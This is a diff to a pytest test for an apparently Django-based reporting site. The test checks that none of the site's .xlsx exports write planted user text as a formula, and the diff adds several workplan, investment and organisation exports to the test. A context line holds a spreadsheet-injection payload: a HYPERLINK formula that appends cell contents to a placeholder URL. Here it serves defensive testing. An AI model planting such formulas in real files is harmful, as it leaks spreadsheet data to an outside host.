@@ -19,6 +19,8 @@ from luoshi.core.xlsx import FORMULA_TRIGGERS
 NOW = "2026-11-24 10:00 +0800"
 PAYLOAD = '=HYPERLINK("http://x"&A1,"点此")'
 NOT_USER_TEXT = {"password", "username"}
+# Blank templates: their header and notes are Luoshi's own words, no user text to plant.
+BLANK_TEMPLATES = {"workplan:template"}
 
 
 def _unique_fields(model) -> set[str]:
@@ -68,7 +70,7 @@ def xlsx_url_names() -> set[str]:
     return found
 
 
-def exports(org, wage, quiet) -> dict[str, list[tuple[str, str]]]:
+def exports(org, wage, quiet, plan, target_year) -> dict[str, list[tuple[str, str]]]:
     """{url name: [(username, url)]}: each export, as the user who would download it."""
     from luoshi.projects.selectors import DIMENSIONS
 
@@ -77,6 +79,13 @@ def exports(org, wage, quiet) -> dict[str, list[tuple[str, str]]]:
         "indicators:template": [("huiji_data", reverse("indicators:template"))],
         "investment:export": [("huiji_data", reverse("investment:export", args=[org.pk]))],
         "investment:template": [("huiji_data", reverse("investment:template", args=[org.pk]))],
+        "investment:targets_template": [("huiji_data", reverse("investment:targets_template", args=[org.pk])
+                                         + f"?year={target_year}")],
+        "organisations:register_template": [("admin", reverse("organisations:register_template", args=[org.pk]))],
+        "organisations:enterprises_template": [("huiji_data", reverse("organisations:enterprises_template",
+                                                                      args=[org.pk]))],
+        "workplan:export": [("admin", reverse("workplan:export", args=[plan.pk]))],
+        "workplan:template": [("admin", reverse("workplan:template", args=[plan.pk]))],
         "projects:export_list": [("huiji_data", reverse("projects:export_list", args=[org.pk]))],
         "projects:export_rollup": [("huiji_data", reverse("projects:export_rollup", args=[org.pk]) + f"?by={by}")
                                    for by in DIMENSIONS],
@@ -107,16 +116,20 @@ def formula_cells(data: bytes) -> tuple[list[str], int]:
 @pytest.mark.django_db
 def test_no_export_writes_user_text_as_a_formula(client):
     from luoshi.inspections.models import UnannouncedVisitReport
+    from luoshi.investment.models import InvestmentTarget
     from luoshi.organisations.models import Organisation
     from luoshi.projects.models import WageRecord
+    from luoshi.workplan.models import WorkPlan
 
     with time_machine.travel(NOW, tick=False):
         call_command("load_demo", verbosity=0)
         org = Organisation.objects.get(name="惠济区")
         wage = WageRecord.objects.filter(project__organisation=org).latest("year", "month")
         quiet = UnannouncedVisitReport.objects.filter(district=org).latest("visit_date")
+        plan = WorkPlan.objects.filter(organisation=org).first() or WorkPlan.objects.first()
+        target_year = InvestmentTarget.objects.filter(organisation=org).latest("year").year
         assert plant_formulas() > 1000
-        cases = exports(org, wage, quiet)
+        cases = exports(org, wage, quiet, plan, target_year)
         assert set(cases) == xlsx_url_names(), "every .xlsx the site serves is checked here"
         problems = []
         for name, downloads in cases.items():
@@ -125,6 +138,6 @@ def test_no_export_writes_user_text_as_a_formula(client):
                 response = client.get(url)
                 assert response.status_code == 200, (url, response.status_code)
                 formulas, planted = formula_cells(response.content)
-                if formulas or not planted:
+                if formulas or not (planted or name in BLANK_TEMPLATES):
                     problems.append((url, formulas[:3], planted))
-    assert problems == [], "formulas found, or no planted text reached the export"
+    assert problems == [], f"formulas found, or no planted text reached the export: {problems}"
